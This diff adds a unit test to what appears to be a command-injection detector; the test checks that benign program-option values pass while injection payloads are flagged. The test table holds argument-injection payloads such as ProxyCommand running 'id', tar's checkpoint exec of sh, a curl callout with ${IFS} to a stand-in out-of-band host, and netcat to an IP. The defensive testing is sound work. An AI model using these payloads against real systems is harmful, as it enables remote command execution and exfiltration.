@@ -138,6 +138,55 @@ static void test_cmdi_ps_cradle(void **st)
 	rt_run("cmdi-ps-cradle", t, sizeof(t) / sizeof(t[0]));
 }
 
+/* below the kill line (60): an option that runs a program naming a
+ * tool's own program (the option's ordinary use, a docs search or a CI
+ * field) is told, not killed; a shell, a probe, a path or a command line
+ * after it is killed (the merge tester's rows, h17c 3c7282a) */
+static void test_cmdi_arg_program(void **st)
+{
+	static const struct {
+		const char *in;
+		int kill;
+	} t[] = {
+		{"--use-compress-program=zstd", 0},
+		{"--use-compress-program=pigz", 0},
+		{"--compress-program=gzip", 0},
+		{"-c core.pager=less", 0},
+		{"-c core.pager=cat", 0},
+		{"-c core.fsmonitor=true", 0},
+		{"--open-files-in-pager=vim", 0},
+		{"-oProxyCommand=none", 0},
+		{"--rsh=ssh", 0},
+		{"--to-command=cat", 0},
+		{"--upload-pack=git-upload-pack", 0},
+		{"-oProxyCommand=id", 1},
+		{"--use-compress-program=sh", 1},
+		{"--checkpoint-action=exec=sh", 1},
+		{"--use-compress-program=/tmp/x", 1},
+		{"-oProxyCommand=curl${IFS}x.oob.example", 1},
+		{"--rsh=nc", 1},
+		{"-oProxyCommand=\"nc 10.0.0.1 22\"", 1},
+	};
+	int bad = 0;
+
+	(void)st;
+	payload_cache_enable(0);
+	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
+		struct payload_match m[PAYLOAD__COUNT];
+		int n = payload_scan(t[i].in, strlen(t[i].in), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT), best = 0;
+
+		for (int k = 0; k < n; k++)
+			if (m[k].score > best)
+				best = m[k].score;
+		if ((best >= 60) != t[i].kill) {
+			bad++;
+			fprintf(stderr, "  FAIL cmdi-arg-program: %s %d %s\n", t[i].kill ? "no kill" : "kill", best, t[i].in);
+		}
+	}
+	payload_cache_enable(1);
+	assert_int_equal(bad, 0);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -146,6 +195,7 @@ int main(void)
 		cmocka_unit_test(test_cmdi_arg_no_blank),
 		cmocka_unit_test(test_cmdi_rev_word),
 		cmocka_unit_test(test_cmdi_ps_cradle),
+		cmocka_unit_test(test_cmdi_arg_program),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
